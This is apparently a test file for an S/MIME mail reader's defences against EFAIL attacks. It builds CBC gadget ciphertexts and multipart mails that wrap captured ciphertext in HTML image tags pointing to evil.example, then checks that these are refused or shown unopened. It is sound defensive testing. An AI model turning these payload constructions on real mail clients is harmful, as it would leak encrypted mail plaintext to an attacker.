/**
 * EFAIL (Poddebniak et al., "Breaking S/MIME and OpenPGP Email Encryption using Exfiltration Channels", USENIX Security
 * 2018). Whoever has captured an encrypted mail makes its reader's own program send the plaintext away: in the CBC gadget
 * attack by writing HTML into the ciphertext, sixteen octets at a time; in direct exfiltration by putting the ciphertext
 * between two halves of an HTML tag. A fooled program opens the one, and joins the parts of the other.
 */
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import {
  SECRET,
  alice,
  alicesEntity,
  bob,
  clearSigned,
  cmsEntity,
  mailFrom,
  mallory,
  multipart,
  receivedByBob,
  shown,
} from '../support/attack.ts'
import { type AttackedReader, startAttackedReader } from '../support/attacked-reader.ts'
import {
  TAG_BYTES,
  cbcAlgorithm,
  cbcEncrypt,
  forgeEnvelope,
  forgeSignedData,
  gcmEncrypt,
} from '../support/forge-cms.ts'
import { octetString } from '../../src/protection/smime/asn1/der-writer.ts'
import { CONTENT_TYPE } from '../../src/protection/smime/cms/content-info.ts'
import { smimeIdentity } from '../support/smime-identity.ts'
import { ALICE, MALLORY } from '../support/tampering.ts'

const BLOCK = 16
const ROUNDS = 120
const HTML = `Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>${SECRET}</p></body></html>\r\n`

const xor = (...blocks: readonly Uint8Array[]): Buffer =>
  Buffer.from((blocks[0] ?? Buffer.alloc(BLOCK)).map((_, i) => blocks.reduce((sum, block) => sum ^ (block[i] ?? 0), 0)))
const randomLike = (text: string, bytes: number): Buffer =>
  createHash('sha256').update(text).digest().subarray(0, bytes)

/** What was captured: the IV and the blocks; the attacker knows how the plaintext begins, as every mail begins. */
function captured(round: number, plaintext: string) {
  const contentKey = randomLike(`key ${round}`, 32)
  const iv = randomLike(`iv ${round}`, BLOCK)
  const ciphertext = cbcEncrypt(contentKey, Buffer.from(plaintext), iv)
  return { contentKey, iv, ciphertext, known: Buffer.from(plaintext.slice(0, BLOCK)) }
}

/**
 * Chosen blocks first, random ones between them, then the captured ciphertext. `D(C0)` is known as the XOR of the IV and
 * the known plaintext, so any block before C0 that differs from the IV by what is wanted makes it decrypt to that.
 */
function withGadgets({ iv, ciphertext, known }: ReturnType<typeof captured>, chosen: readonly string[]) {
  const first = ciphertext.subarray(0, BLOCK)
  const previous = (text: string): Buffer => xor(iv, known, Buffer.from(text.padEnd(BLOCK)))
  const [head = '', ...rest] = chosen
  const blocks = rest.flatMap((text) => [previous(text), first])
  return { iv: previous(head), ciphertext: Buffer.concat([first, ...blocks, ciphertext]) }
}

/** The parts of an envelope with `chosen` in it, or as it was captured. */
function sealedAgain(mail: ReturnType<typeof captured>, chosen: readonly string[]) {
  const { iv, ciphertext } = chosen.length === 0 ? mail : withGadgets(mail, chosen)
  return { contentKey: mail.contentKey, cipher: cbcAlgorithm(iv), ciphertext }
}

const enveloped = (contentKey: Uint8Array, iv: Uint8Array, ciphertext: Uint8Array): Buffer =>
  forgeEnvelope({ to: bob, contentKey, cipher: cbcAlgorithm(iv), ciphertext })

const sealedMail = (cms: Uint8Array): Buffer => mailFrom(MALLORY, cmsEntity('enveloped-data', cms))

test('the captured mail itself is opened, and marked as signed by nobody', () => {
  const { contentKey, iv, ciphertext } = captured(0, HTML)
  const received = receivedByBob(sealedMail(enveloped(contentKey, iv, ciphertext)))
  assert.equal(received.outcome, 'not verified')
  assert(shown(received).includes(SECRET))
})

/** How the ciphertext is made into a channel, by what was in it. */
const GADGETS: readonly [why: string, plaintext: string, chosen: readonly string[]][] = [
  [
    'an image before the text of an HTML mail',
    HTML,
    ['Content-Type: te', 'xt/html', '\r\n\r\n', "<img src='//evil", '.example/'],
  ],
  [
    'an attribute that takes up the random octets',
    HTML,
    ['Content-Type: te', 'xt/html;x="', '"\r\n\r\n<i a="', '" src="', '//evil.example/'],
  ],
  [
    'a signed mail made into an unsigned one',
    alicesEntity('sign'),
    ['Content-Type: te', 'xt/html;x="', '"\r\n\r\n<img a="', '" src="//evil.ex', 'ample/'],
  ],
]

for (const [why, plaintext, chosen] of GADGETS)
  test(`CBC gadgets, ${why}: refused, and nothing is shown`, (t) => {
    let opened = 0
    for (let round = 0; round < ROUNDS; round++) {
      const mail = captured(round, plaintext)
      const { iv, ciphertext } = withGadgets(mail, chosen)
      const received = receivedByBob(sealedMail(enveloped(mail.contentKey, iv, ciphertext)))
      if (received.outcome === 'refused 5.7.7') assert.equal(received.report.message, undefined)
      else opened++
      assert.notEqual(received.outcome, 'valid')
    }
    t.diagnostic(`${ROUNDS - opened} of ${ROUNDS} seen`)
    assert.equal(opened, 0) // each has six random blocks at least, and one is overlooked once in five times
  })

test('under the valid signature of the attacker, the gadgets are seen all the same', () => {
  const mail = captured(1, HTML)
  const { iv, ciphertext } = withGadgets(mail, GADGETS[0]?.[2] ?? [])
  const entity = cmsEntity('enveloped-data', enveloped(mail.contentKey, iv, ciphertext))
  const cms = forgeSignedData({ content: Buffer.from(entity), signers: [{ by: mallory }], detached: true })
  const received = receivedByBob(mailFrom(MALLORY, clearSigned(entity, cms)))
  assert.equal(received.outcome, 'refused 5.7.7')
  assert.deepEqual(
    received.report.layers.map(({ verdict }) => verdict),
    ['valid', 'broken'],
  )
})

test('a changed byte never gets past the tag of AES-GCM, let alone a gadget', () => {
  const contentKey = randomLike('gcm', 32)
  const { algorithm, ciphertext, tag } = gcmEncrypt(contentKey, Buffer.from(HTML))
  const envelope = (content: Uint8Array): Buffer =>
    mailFrom(
      ALICE,
      cmsEntity(
        'authEnveloped-data',
        forgeEnvelope({
          to: bob,
          contentKey,
          cipher: algorithm,
          ciphertext: content,
          type: CONTENT_TYPE.authEnvelopedData,
          trailer: [octetString(tag)],
        }),
      ),
    )
  assert.equal(tag.length, TAG_BYTES)
  assert(shown(receivedByBob(envelope(ciphertext))).includes(SECRET))
  for (let at = 0; at < ciphertext.length; at++) {
    const changed = Buffer.from(ciphertext)
    changed[at] = (changed[at] ?? 0) ^ 1
    assert.equal(receivedByBob(envelope(changed)).outcome, 'refused 5.7.7')
  }
})

const OPEN_TAG = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
const CLOSE_TAG = 'Content-Type: text/html\r\n\r\n">'
const SEALED = alicesEntity('encrypt')

/** Every one of them leaves the ciphertext as it is. */
const DIRECT: readonly [why: string, entity: string][] = [
  ...['mixed', 'alternative', 'related', 'digest', 'x-unknown'].map((subtype): [string, string] => [
    `between the parts of multipart/${subtype}`,
    multipart(subtype, [OPEN_TAG, SEALED, CLOSE_TAG]),
  ]),
  ['as the first part', multipart('mixed', [SEALED, CLOSE_TAG])],
  ['as the only part', multipart('mixed', [SEALED])],
  ['as a forwarded mail', `Content-Type: message/rfc822\r\n\r\n${mailFrom(ALICE, SEALED).toString('latin1')}`],
  [
    'in a forwarded mail between two parts',
    multipart('mixed', [OPEN_TAG, `Content-Type: message/rfc822\r\n\r\n${SEALED}`, CLOSE_TAG]),
  ],
  ['two levels down', multipart('mixed', [OPEN_TAG, multipart('mixed', [SEALED], 'deeper'), CLOSE_TAG])],
  ['in the preamble', multipart('mixed', [OPEN_TAG, CLOSE_TAG]).replace('--mixed', `${SEALED}\r\n--mixed`)],
]

for (const [why, entity] of DIRECT)
  test(`direct exfiltration, the ciphertext ${why}: it stays shut`, () => {
    const mail = mailFrom(MALLORY, entity)
    const received = receivedByBob(mail)
    assert.deepEqual(received.report.layers, [])
    assert.equal(received.report.summary.signature, 'none')
    assert(mail.equals(Buffer.from(shown(received), 'latin1')), 'shown as it came')
    assert(!shown(received).includes(SECRET))
    // and under the attacker's own good signature
    const cms = forgeSignedData({ content: Buffer.from(entity), signers: [{ by: mallory }], detached: true })
    const signed = receivedByBob(mailFrom(MALLORY, clearSigned(entity, cms)))
    assert.equal(signed.outcome, 'valid', signed.report.summary.reason ?? '')
    assert(!shown(signed).includes(SECRET))
  })

test('HTML beside the protection does not touch what is opened: nothing outside of a layer comes with it', () => {
  const entity = alicesEntity('sign-encrypt')
  const begins = mailFrom(ALICE, entity.replace('\r\n\r\n', `\r\nX-Begin: <img src="http://evil.example/\r\n\r\n`))
  const preamble = mailFrom(
    ALICE,
    alicesEntity('sign').replace('\r\n\r\n--', `\r\n\r\n<img src="http://evil.example/\r\n--`),
  )
  for (const mail of [begins, preamble]) {
    const received = receivedByBob(mail)
    assert.equal(received.outcome, 'valid', received.report.summary.reason ?? '')
    const [, body = ''] = shown(received).split('\r\n\r\n')
    assert.equal(body, `${SECRET}\r\n`)
  }
})

test('two ciphertexts in one body: the second is no part of the first', () => {
  const [header = '', body = ''] = SEALED.split('\r\n\r\n')
  const first = Buffer.from(body, 'base64')
  const joined = receivedByBob(mailFrom(MALLORY, cmsEntity('enveloped-data', Buffer.concat([first, first]))))
  assert.equal(joined.outcome, 'refused 5.7.7')
  const padded = receivedByBob(mailFrom(MALLORY, `${header}\r\n\r\n${body}${body}`)) // base64 ends at its padding
  assert.equal(shown(padded).split(SECRET).length, 2)
})

test('random octets under a signature: one that holds proves them, one that nobody can check does not', () => {
  const garbled = `Content-Type: text/plain\r\n\r\n${Buffer.alloc(64, randomLike('garbage', 32)).toString('latin1')}`
  const mailOf = (certificates: readonly Uint8Array[] | undefined): Buffer => {
    const content = Buffer.from(garbled, 'latin1')
    const by = certificates === undefined ? alice : smimeIdentity('p256', 'nobody@example.com')
    const cms = forgeSignedData({ content, signers: [{ by }], detached: true, ...(certificates && { certificates }) })
    const contentKey = randomLike('key', 32)
    const iv = randomLike('iv', BLOCK)
    const plaintext = Buffer.from(clearSigned(garbled, cms), 'latin1')
    return mailFrom(
      ALICE,
      cmsEntity('enveloped-data', enveloped(contentKey, iv, cbcEncrypt(contentKey, plaintext, iv))),
    )
  }
  assert.equal(receivedByBob(mailOf(undefined)).outcome, 'valid')
  const unknown = receivedByBob(mailOf([]))
  assert.equal(unknown.outcome, 'refused 5.7.7')
  assert.deepEqual(
    unknown.report.layers.map(({ verdict }) => verdict),
    ['broken', 'unknown-key'],
  )
})

describe('through a server', () => {
  let reader: AttackedReader
  before(async () => (reader = await startAttackedReader()))
  after(() => reader[Symbol.asyncDispose]())

  test('gadgets are refused in the session, and the mailbox stays empty', async () => {
    for (const [round, [, plaintext, chosen]] of GADGETS.entries()) {
      const mail = captured(round, plaintext)
      const cms = forgeEnvelope({ to: reader, ...sealedAgain(mail, chosen) })
      assert.match(await reader.send(sealedMail(cms)), /^550 5\.7\.7 /)
    }
    assert.deepEqual(await reader.fetched(), [])
  })

  test('a ciphertext between two halves of a tag reaches the reader as it came', async () => {
    const mail = captured(7, HTML)
    const sealed = cmsEntity('enveloped-data', forgeEnvelope({ to: reader, ...sealedAgain(mail, []) }))
    assert.match(await reader.send(mailFrom(MALLORY, sealed)), /^250 /)
    assert.match(await reader.send(mailFrom(MALLORY, multipart('mixed', [OPEN_TAG, sealed, CLOSE_TAG]))), /^250 /)
    const [alone, between, ...more] = (await reader.fetched()).map((each) => each.toString('latin1'))
    assert(alone?.includes(SECRET), 'the mail alone opens')
    assert(between?.includes(sealed.slice(-200)) && !between.includes(SECRET))
    assert.deepEqual(more, [])
  })
})
